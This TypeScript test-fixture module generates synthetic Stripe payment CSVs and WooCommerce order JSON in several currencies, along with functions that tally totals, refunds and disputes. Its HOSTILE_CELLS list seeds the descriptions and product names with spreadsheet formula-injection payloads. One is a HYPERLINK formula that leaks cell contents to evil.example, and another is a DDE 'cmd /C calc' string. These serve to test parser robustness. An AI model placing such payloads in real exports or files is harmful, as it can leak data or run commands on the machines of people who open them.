import { parse } from 'csv-parse/sync';

/** Decimals of the currencies that the made files use. */
const DECIMALS: Record<string, number> = { EUR: 2, USD: 2, JPY: 0, KWD: 3 };
const CURRENCIES = Object.keys(DECIMALS);

/** Columns of Stripe's export of payments; an export has more, and may leave some out. */
const STRIPE_COLUMNS = [
  'id',
  'Description',
  'Seller Message',
  'Created date (UTC)',
  'Amount',
  'Amount Refunded',
  'Currency',
  'Converted Amount',
  'Converted Amount Refunded',
  'Fee',
  'Taxes On Fee',
  'Converted Currency',
  'Mode',
  'Status',
  'Statement Descriptor',
  'Customer ID',
  'Customer Description',
  'Customer Email',
  'Captured',
  'Card ID',
  'Card Last4',
  'Card Brand',
  'Card Funding',
  'Card Exp Month',
  'Card Exp Year',
  'Card Name',
  'Card Address Country',
  'Card Issue Country',
  'Disputed Amount',
  'Dispute Status',
  'Dispute Reason',
  'Dispute Date (UTC)',
  'Dispute Evidence Due (UTC)',
  'Invoice ID',
  'Payment Source Type',
  'Refunded date (UTC)',
  'Transfer',
  'PaymentIntent ID',
  'order_number (metadata)',
];

/** Cells that spreadsheets and readers of CSV have stumbled over. */
const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  'He said "yes", twice',
  'a; b, c',
  'two\r\nlines',
  'Überraschung für Zoë 👩‍👩‍👧',
  'שלום \u202Eevil',
  '  spaces  ',
  '',
];
const METHODS = [
  ['Visa', '4242', 'card'],
  ['MasterCard', '0042', 'card'],
  ['', '', 'sepa_debit'],
] as const;
const DISPUTES = [
  'needs_response',
  'under_review',
  'won',
  'lost',
  'warning_closed',
  'warning_needs_response',
];

type Options = { count: number; delimiter?: ',' | ';'; bom?: boolean; lineEnd?: '\n' | '\r\n' };

/** A file as Stripe exports payments: paid, refunded, partly refunded, disputed and failed ones in four currencies. The same
 * options make the same file. */
export function stripeExport({ count, delimiter = ',', bom = false, lineEnd = '\n' }: Options): string {
  const random = dice(count);
  const lines = [STRIPE_COLUMNS.map((name) => cell(name, delimiter)).join(delimiter)];
  for (let n = 1; n <= count; n += 1) {
    const row = stripeRow(n, random);
    lines.push(STRIPE_COLUMNS.map((name) => cell(row[name] ?? '', delimiter)).join(delimiter));
  }
  return `${bom ? '\uFEFF' : ''}${lines.join(lineEnd)}${lineEnd}`;
}

function stripeRow(n: number, random: (most: number) => number): Record<string, string> {
  const currency = CURRENCIES[n % CURRENCIES.length] ?? 'EUR';
  const amount = 100 + random(currency === 'JPY' ? 90_000 : 900_000);
  const fate = n % 20;
  const refunded = fate === 3 ? amount : fate === 7 || fate === 11 ? 1 + random(amount - 1) : 0;
  const dispute = fate === 13 ? (DISPUTES[random(DISPUTES.length)] ?? 'won') : '';
  const isFailed = fate === 17;
  const day = isoDay(n);
  const [brand, last4, source] = METHODS[random(METHODS.length)] ?? METHODS[0];
  const id = n.toString(36).padStart(16, '0');
  return {
    id: `ch_${id}`,
    Description: HOSTILE_CELLS[n % HOSTILE_CELLS.length] ?? '',
    'Seller Message': isFailed ? 'The bank did not return any further details.' : 'Payment complete.',
    'Created date (UTC)': `${day} 10:${(n % 60).toString().padStart(2, '0')}:00`,
    Amount: decimal(amount, currency),
    'Amount Refunded': decimal(refunded, currency),
    Currency: currency.toLowerCase(),
    'Converted Amount': decimal(amount, 'EUR'),
    'Converted Currency': 'eur',
    Mode: 'Live',
    Status: isFailed ? 'Failed' : refunded === amount ? 'Refunded' : 'Paid',
    'Customer Email': `Buyer${n % 3000}@Example.com`,
    Captured: isFailed ? 'false' : 'true',
    'Card Last4': last4,
    'Card Brand': brand,
    'Card Issue Country': brand === '' ? '' : 'DE',
    'Disputed Amount': dispute === '' ? '' : decimal(amount, currency),
    'Dispute Status': dispute,
    'Dispute Reason': dispute === '' ? '' : 'product_not_received',
    'Dispute Date (UTC)': dispute === '' ? '' : `${isoDay(n + 20)} 09:00`,
    'Payment Source Type': source,
    'Refunded date (UTC)': refunded === 0 ? '' : `${isoDay(n + 3)} 12:00:00`,
    'PaymentIntent ID': `pi_${id}`,
    'order_number (metadata)': `TP-${10_000 + n}`,
  };
}

/** Orders as WooCommerce's REST API gives them: paid, refunded in parts and whole, and unpaid ones. */
export function woocommerceExport(count: number): string {
  const random = dice(count + 1);
  return JSON.stringify(Array.from({ length: count }, (_, at) => woocommerceOrder(at + 1, random)));
}

/** One such order. */
export function woocommerceOrder(n: number, random = dice(n)) {
  const currency = CURRENCIES[n % CURRENCIES.length] ?? 'EUR';
  // A shop shows two decimals of everything unless somebody changes that, also of yen; of dinars three.
  const money = (minor: number) => decimal(minor, currency) + (currency === 'JPY' ? '.00' : '');
  const unit = 50 + random(40_000);
  const quantity = 1 + random(4);
  const shipping = random(2000);
  const tax = random(500);
  const total = unit * quantity + shipping + tax;
  const fate = n % 20;
  const first = 1 + random(total - 1);
  const parts = fate === 2 ? [total] : fate === 5 ? [first] : fate === 9 ? [first, total - first] : [];
  const isPaid = fate !== 15;
  return {
    id: n,
    parent_id: 0,
    status: fate === 15 ? 'pending' : fate === 2 || fate === 9 ? 'refunded' : 'completed',
    currency,
    version: '9.4.2',
    prices_include_tax: false,
    date_created_gmt: `${isoDay(n)}T08:00:00`,
    date_modified_gmt: `${isoDay(n + 3)}T08:00:00`,
    discount_total: '0.00',
    shipping_total: money(shipping),
    shipping_tax: '0.00',
    cart_tax: money(tax),
    total: money(total),
    total_tax: money(tax),
    customer_id: n % 3000,
    billing: { first_name: 'Zoë', last_name: "O'Neil", email: `Buyer${n % 3000}@Example.com`, country: 'AT' },
    shipping: { country: 'AT' },
    payment_method: n % 3 === 0 ? 'bacs' : n % 3 === 1 ? 'stripe' : 'ppcp-gateway',
    payment_method_title: n % 3 === 0 ? 'Bank transfer' : n % 3 === 1 ? 'Visa •••• 4242' : 'PayPal',
    transaction_id: n % 3 === 0 ? '' : n % 3 === 1 ? `ch_woo${n}` : `8AB${n}CAPTURE`,
    date_paid_gmt: isPaid ? `${isoDay(n)}T08:01:00` : null,
    number: String(100_000 + n),
    meta_data: n % 3 === 1 ? [{ id: n, key: '_stripe_intent_id', value: `pi_woo${n}` }] : [],
    line_items: [
      {
        id: n,
        name: HOSTILE_CELLS[n % HOSTILE_CELLS.length],
        product_id: 5,
        quantity,
        total: money(unit * quantity),
        total_tax: money(tax),
        price: unit / 10 ** (DECIMALS[currency] ?? 2),
      },
    ],
    fee_lines: [],
    refunds: parts.map((part, at) => ({
      id: 500_000 + n * 10 + at,
      reason: at === 0 ? '=1+1' : '',
      total: `-${money(part)}`,
    })),
  };
}

export type Tally = {
  orders: number;
  total: number;
  captured: number;
  refunds: number;
  refunded: number;
  disputes: number;
  disputed: number;
};

function emptyTally(): Tally {
  return { orders: 0, total: 0, captured: 0, refunds: 0, refunded: 0, disputes: 0, disputed: 0 };
}

/** Counts and sums per currency of what an export says, read from its text and nothing else. Failed payments are no orders. */
export function tallyOfStripe(csv: string, delimiter: ',' | ';' = ','): Record<string, Tally> {
  const rows = parse(csv, { bom: true, columns: true, delimiter }) as Record<string, string>[];
  const tallies: Record<string, Tally> = {};
  for (const row of rows) {
    if (row.Status === 'Failed') continue;
    const currency = (row.Currency ?? '').toUpperCase();
    tallies[currency] ??= emptyTally();
    const minor = (name: string) => minorOf(row[name] ?? '', currency);
    add(tallies[currency], {
      total: minor('Amount'),
      captured: minor('Amount'),
      refunds: minor('Amount Refunded') > 0 ? 1 : 0,
      refunded: minor('Amount Refunded'),
      disputes: row['Dispute Status'] === '' ? 0 : 1,
      disputed: minor('Disputed Amount'),
    });
  }
  return tallies;
}

/** The same of a file of WooCommerce. */
export function tallyOfWoocommerce(json: string): Record<string, Tally> {
  const tallies: Record<string, Tally> = {};
  for (const order of JSON.parse(json) as ReturnType<typeof woocommerceOrder>[]) {
    const { currency } = order;
    tallies[currency] ??= emptyTally();
    const total = minorOf(order.total, currency);
    add(tallies[currency], {
      total,
      captured: order.date_paid_gmt === null ? 0 : total,
      refunds: order.refunds.length,
      refunded: order.refunds.reduce((sum, refund) => sum - minorOf(refund.total, currency), 0),
    });
  }
  return tallies;
}

function add(tally: Tally, more: Partial<Tally>): void {
  tally.orders += 1;
  for (const [key, value] of Object.entries(more)) tally[key as keyof Tally] += value;
}

function minorOf(decimalText: string, currency: string): number {
  return Math.round(Number(decimalText) * 10 ** (DECIMALS[currency] ?? 2));
}

function decimal(minor: number, currency: string): string {
  const digits = DECIMALS[currency] ?? 2;
  const all = String(minor).padStart(digits + 1, '0');
  return digits === 0 ? all : `${all.slice(0, -digits)}.${all.slice(-digits)}`;
}

function cell(text: string, delimiter: string): string {
  const needsQuotes = /["\r\n]/.test(text) || text.includes(delimiter) || text.trim() !== text;
  return needsQuotes ? `"${text.replaceAll('"', '""')}"` : text;
}

function isoDay(n: number): string {
  return new Date(Date.UTC(2026, 0, 1 + (n % 300))).toISOString().slice(0, 10);
}

/** Whole numbers from 0 up to below `most`, the same ones every time. */
function dice(seed: number): (most: number) => number {
  let state = seed + 0x9e3779b9;
  return (most) => {
    state = Math.imul(state ^ (state >>> 15), state | 1);
    state ^= state + Math.imul(state ^ (state >>> 7), state | 61);
    return ((state ^ (state >>> 14)) >>> 0) % Math.max(1, most);
  };
}
